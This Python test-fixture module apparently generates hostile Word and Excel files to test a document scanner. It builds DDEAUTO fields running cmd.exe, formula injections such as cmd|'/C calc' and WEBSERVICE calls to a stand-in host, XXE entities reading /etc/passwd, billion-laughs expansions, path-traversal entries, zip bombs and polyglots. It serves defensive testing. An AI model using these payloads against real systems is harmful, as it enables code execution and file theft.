"""Word's and Excel's files that act, carry, fetch, hide or unpack without end."""

import io
import struct
import zipfile
from collections.abc import Iterator
from itertools import product

from tests.evaluation.files.made import a_document, a_workbook, archive, entry, png

Made = tuple[str, bytes]
WORD, EXCEL = "docx", "xlsx"
BASES = {WORD: a_document, EXCEL: a_workbook}
MAIN = {WORD: "word/document.xml", EXCEL: "xl/workbook.xml"}
RELATIONS = {WORD: "word/_rels/document.xml.rels", EXCEL: "xl/_rels/workbook.xml.rels"}
TYPES = "[Content_Types].xml"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
ACTING = (
    *(f"{_MICROSOFT}{name}" for name in ("vbaProject", "wordVbaData", "xlMacrosheet", "activeXControlBinary", "attachedToolbars")),
    *(f"{_MICROSOFT}{name}" for name in ("keyMapCustomizations", "ui/extensibility", "ui/userCustomization")),
    *(f"{_OFFICE}{name}" for name in ("oleObject", "package", "control", "attachedTemplate", "subDocument", "frame", "aFChunk")),
    *(f"{_OFFICE}{name}" for name in ("externalLink", "externalLinkPath", "connections", "queryTable", "dialogsheet")),
    "http://schemas.microsoft.com/office/2011/relationships/webextension",
    "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
)  # fmt: skip
TARGETS = (
    "http://xau.example/a",
    "https://xau.example/a",
    "file:///C:/a",
    "\\\\may\\chia-se\\a",
    "//may/chia-se/a",
    "smb://may/a",
    "mhtml:x",
    "a.bin",
)
LINKS = ("file:///C:/a.exe", "javascript:alert(1)", "ftp://xau.example/a", "smb://may/a", "\\\\may\\a.exe", "vbscript:x", "ms-excel:ofv|u|x", "search-ms:x", "data:text/html,x", "a.exe", "../a.exe")  # fmt: skip
NAMES = ("../a.xml", "a/../../b.xml", "/a.xml", "..\\a.xml", "C:\\a.xml", "c:/a.xml", "word/..", "a\\b.xml")
PLACES = (
    "word/vbaProject.bin", "xl/vbaProject.bin", "word/activeX/activeX1.xml", "xl/embeddings/oleObject1.bin",
    "word/embeddings/Microsoft_Excel_Sheet1.xlsx", "xl/macrosheets/sheet1.xml", "xl/externalLinks/externalLink1.xml",
    "customUI/customUI.xml", "word/media/a.exe", "word/a.dll", "xl/a.js", "word/a.html", "a.vbs", "a.bin", "word/media/a.svgz",
    "word/media/a.scr", "word/afchunk.mht", "word/a.rtf", "docProps/a.hta", "word/fonts/a.com", "META-INF/MANIFEST.MF", "mimetype",
)  # fmt: skip
BEGINNINGS = (b"MZ", b"PK\3\4", b"\xd0\xcf\x11\xe0", b"\x7fELF", b"%PDF-", b"<html>", b"Rar!")
SAID = (
    "application/vnd.ms-office.vbaProject", "application/vnd.ms-office.activeX", "application/vnd.ms-office.activeX+xml",
    "application/vnd.ms-word.vbaData+xml", "application/vnd.ms-excel.macrosheet+xml", "application/vnd.ms-excel.intlmacrosheet+xml",
    "application/vnd.openxmlformats-officedocument.oleObject", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    "application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml",
)  # fmt: skip
DECLARED = {
    "laughs": '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
    "outside": '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "fetched": '<!DOCTYPE a SYSTEM "http://xau.example/a.dtd">',
    "bare": "<!DOCTYPE a>",
    "parameter": '<!DOCTYPE a [<!ENTITY % a SYSTEM "http://xau.example/a"> %a;]>',
}
FIELDS = (
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', 'DDE excel "a" "b"', 'INCLUDETEXT "http://xau.example/a.docx"',
    'INCLUDEPICTURE "http://xau.example/a.png" \\d', "LINK Excel.Sheet.12 a", "IMPORT a.txt", 'DATABASE \\d "a"', 'RD "a.docx"', "ddeauto x y",
)  # fmt: skip
FORMULAS = (
    "cmd|'/C calc'!A0", "MSEXCEL|'\\..\\..\\cmd.exe'!''", 'WEBSERVICE("http://xau.example")', 'RTD("a",,"b")', 'CALL("a","b","C")',
    'REGISTER.ID("a","b")', 'EXEC("calc")', 'IMAGE("http://xau.example/a.png")', "'[a.xlsx]Sheet1'!A1", "'\\\\may\\chia-se\\[a.xls]S'!A1",
    "SUM(1)+cmd|'/C calc'!A0", 'FILTERXML(WEBSERVICE("http://x"),"a")', 'SQL.REQUEST("a")', "_xlfn.WEBSERVICE(A1)", "webservice (A1)",
    # Quotes in the names of sheets and of columns begin no text.
    "'a&quot;b'!A1+WEBSERVICE(A1)+'c&quot;d'!A1", "T[a&quot;b]+WEBSERVICE(A1)+T[c&quot;d]", "T['[a']&quot;]+WEBSERVICE(A1)+T['[a']&quot;]",
    "1<f/>+WEBSERVICE(A1)", "\n" * 9000 + "WEBSERVICE(A1+A2)",
)  # fmt: skip


def both() -> Iterator[tuple[str, bytes]]:
    yield from ((kind, base()) for kind, base in BASES.items())


def leading() -> Iterator[tuple[str, str, bytes]]:
    """Relations that act whatever their target, pictures from elsewhere, links to what is no page."""
    for (kind, base), act in product(both(), ACTING):
        for mode in ("Internal", "External"):
            yield f"{act.rpartition('/')[2]} {mode}", kind, related(kind, base, act, "a.bin", mode)
    for (kind, base), target in product(both(), TARGETS):
        yield f"picture of {target}", kind, related(kind, base, f"{_OFFICE}image", target, "External")
        if "/" in target or "\\" in target or ":" in target:
            yield f"styles of {target}", kind, related(kind, base, f"{_OFFICE}styles", target, "")
    for (kind, base), link in product(both(), LINKS):
        yield f"link to {link}", kind, related(kind, base, f"{_OFFICE}hyperlink", link, "External")


def related(kind: str, base: bytes, act: str, target: str, mode: str) -> bytes:
    said = f' TargetMode="{mode}"' if mode else ""
    one = f'<Relationship Id="rIdX" Type="{act}" Target="{target}"{said}/></Relationships>'
    told = entry(base, RELATIONS[kind]).decode().replace("</Relationships>", one)
    return archive(base, **{RELATIONS[kind]: told.encode()})


def carrying() -> Iterator[tuple[str, str, bytes]]:
    """By where it lies, by how it begins, by what it says of itself."""
    for (kind, base), place in product(both(), PLACES):
        yield f"with {place}", kind, archive(base, **{place: b"x" * 40})
    for (kind, base), head, ending in product(both(), BEGINNINGS, ("png", "emf")):
        yield f"{head!r} as {ending}", kind, archive(base, **{f"media/a.{ending}": head + b"x" * 40})
    for (kind, base), said in product(both(), SAID):
        for one in (
            f'<Override PartName="/a.xml" ContentType="{said}"/>',
            f'<Default Extension="bin" ContentType="{said}"/>',
        ):
            told = entry(base, TYPES).decode().replace("</Types>", f"{one}</Types>")
            yield f"said {said} {one[1:4]}", kind, archive(base, **{TYPES: told.encode()})


def declaring() -> Iterator[tuple[str, str, bytes]]:
    """A document type in each part that is XML, in one coding and another."""
    for kind, base in both():
        with zipfile.ZipFile(io.BytesIO(base)) as packed:
            parts = [name for name in packed.namelist() if name.endswith((".xml", ".rels"))]
        for part, (how, declared) in product(parts, DECLARED.items()):
            yield f"{how} in {part}", kind, archive(base, **{part: _declared(entry(base, part), declared)})
        wide = f'<?xml version="1.0" encoding="UTF-16"?>{DECLARED["laughs"]}<a>&b;</a>'.encode("utf-16")
        yield "laughs in sixteen bits", kind, archive(base, **{"docProps/core.xml": wide})


def _declared(part: bytes, declared: str) -> bytes:
    head, end, rest = part.partition(b"?>")
    return head + end + declared.encode() + rest if end else declared.encode() + part


def fetching() -> Iterator[tuple[str, str, bytes]]:
    """Fields in runs, cut over runs, in one element, in a header; formulas of cells, names and rules."""
    document = a_document()
    for code in FIELDS:
        safe = code.replace('"', "&quot;")
        half = len(code.split()[0]) // 2
        runs = {
            "in a run": f"<w:r><w:instrText>{safe}</w:instrText></w:r>",
            "cut": f"<w:r><w:instrText>{safe[:half]}</w:instrText></w:r><w:r><w:instrText>{safe[half:]}</w:instrText></w:r>",
            "simple": f'<w:fldSimple w:instr="{safe}"/>',
        }
        begin, end = (f'<w:r><w:fldChar w:fldCharType="{what}"/></w:r>' for what in ("begin", "end"))
        runs |= {
            "behind a quote": f"<w:r><w:instrText>QUOTE &quot;a</w:instrText></w:r>{end}{begin}"
            f"<w:r><w:instrText>{safe} &quot;</w:instrText></w:r>",
            "behind lines": f"<w:r><w:instrText>{chr(10) * 9000}{safe}</w:instrText></w:r>",
        }
        for how, run in runs.items():
            for part in ("word/document.xml", "word/header1.xml"):
                told = entry(document, part).decode().replace("</w:p>", f"{begin}{run}</w:p>", 1)
                yield f"{code} {how} in {part}", WORD, archive(document, **{part: told.encode()})
    book = a_workbook()
    for formula in FORMULAS:
        cell = f'<sheetData><row r="9"><c r="A9"><f>{formula}</f></c></row>'
        rule = f'</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{formula}</formula></cfRule></conditionalFormatting>'
        for old, new in (("<sheetData>", cell), ("</sheetData>", rule)):
            told = entry(book, "xl/worksheets/sheet1.xml").decode().replace(old, new)
            yield (
                f"{formula} in {new[:12]}",
                EXCEL,
                archive(book, **{"xl/worksheets/sheet1.xml": told.encode()}),
            )
        told = (
            entry(book, MAIN[EXCEL])
            .decode()
            .replace(
                "</sheets>",
                f'</sheets><definedNames><definedName name="a">{formula}</definedName></definedNames>',
            )
        )
        yield f"{formula} as a name", EXCEL, archive(book, **{MAIN[EXCEL]: told.encode()})


def misshapen() -> Iterator[tuple[str, str, bytes]]:
    """Archives that two programs read as two, and what is no paper at all."""
    for kind, base in both():
        for name in NAMES:
            yield f"entry {name}", kind, archive(base, **{name: b"<a/>"})
        for name in (MAIN[kind], MAIN[kind].upper()):
            yield f"twice {name}", kind, _added(base, name, entry(base, MAIN[kind]))
        for at in range(100, len(base) - 1, len(base) // 40):
            yield f"cut at {at}", kind, base[:at]
        for junk in (b"x", b"MZ" * 50, b"%PDF-1.4", b"\0" * 70_000):
            yield f"{junk[:4]!r} before", kind, junk + base
            yield f"{junk[:4]!r} behind", kind, base + junk
        yield "a remark behind", kind, _remarked(base)
        yield "a gap", kind, _with_gap(base)
        yield "encrypted", kind, _flagged(base)
        for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
            yield f"packed by {method}", kind, _packed_by(base, method)
        yield "laid over one another", kind, _overlaid(base)
        for said in ("template", "document.macroEnabled", "slideshow"):
            told = entry(base, TYPES).decode().replace(".main+xml", f".{said}.main+xml")
            yield f"main part {said}", kind, archive(base, **{TYPES: told.encode()})
        yield "no table of types", kind, archive(base, **{TYPES: None})
        yield "no XML", kind, archive(base, **{MAIN[kind]: b"\0\1\2"})
        yield "deep", kind, archive(base, **{"docProps/core.xml": b"<a>" * 300 + b"</a>" * 300})
        yield "many entries", kind, archive(base, **{f"media/{n}.png": b"x" for n in range(3100)})
        yield "a lie about its size", kind, _lying(base, MAIN[kind])
    plain = archive(_empty(), **{"a.txt": b"a"})
    for kind, _ in both():
        yield "a plain archive", kind, plain
        yield (
            "an archive of Java",
            kind,
            archive(_empty(), **{"META-INF/MANIFEST.MF": b"a", "A.class": b"\xca\xfe\xba\xbe"}),
        )
        yield (
            "a paper of LibreOffice",
            kind,
            archive(_empty(), mimetype=b"application/vnd.oasis.opendocument.text"),
        )


def bombs(size: int) -> Iterator[tuple[str, str, bytes]]:
    for kind, base in both():
        blank, words = b" " * size, b"<a>" + b" " * size + b"</a>"
        yield "one part", kind, archive(base, **{"docProps/core.xml": words})
        yield "many parts", kind, archive(base, **{f"media/{n}.png": blank[: size // 8] for n in range(9)})
        yield "a picture", kind, archive(base, **{"media/a.bmp": blank})


def _added(base: bytes, name: str, content: bytes) -> bytes:
    made = io.BytesIO(base)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(made, "a") as packed:
            packed.writestr(name, content)
    return made.getvalue()


def _remarked(base: bytes) -> bytes:
    made = io.BytesIO(base)
    with zipfile.ZipFile(made, "a") as packed:
        packed.comment = b"%PDF-1.4 polyglot"
    return made.getvalue()


def _with_gap(base: bytes) -> bytes:
    """Something between the last entry and the table, of which the table tells rightly."""
    end = base.rindex(b"PK\5\6")
    size, at = struct.unpack("<II", base[end + 12 : end + 20])
    junk = b"MZ" * 600
    return (
        base[:at]
        + junk
        + base[at:end]
        + base[end : end + 16]
        + struct.pack("<I", at + len(junk))
        + base[end + 20 :]
    )


def _flagged(base: bytes) -> bytes:
    changed = bytearray(base)
    at = changed.index(b"PK\1\2")
    changed[at + 8] |= 1
    changed[6] |= 1
    return bytes(changed)


def _packed_by(base: bytes, method: int) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name), method)
    return made.getvalue()


def _overlaid(base: bytes) -> bytes:
    """Two entries of the table that lead to the same place."""
    changed = bytearray(base)
    first = changed.index(b"PK\1\2")
    second = changed.index(b"PK\1\2", first + 4)
    changed[second + 42 : second + 46] = changed[first + 42 : first + 46]
    return bytes(changed)


def _lying(base: bytes, name: str) -> bytes:
    """The table says that an entry unpacks to a tenth of what it does."""
    changed = bytearray(base)
    at = changed.index(b"PK\1\2")
    while changed[at + 46 : at + 46 + len(name)] != name.encode():
        at = changed.index(b"PK\1\2", at + 4)
    changed[at + 24 : at + 28] = struct.pack("<I", 40)
    return bytes(changed)


def _empty() -> bytes:
    made = io.BytesIO()
    zipfile.ZipFile(made, "w").close()
    return made.getvalue()


__all__ = ["bombs", "carrying", "declaring", "fetching", "leading", "misshapen", "png"]
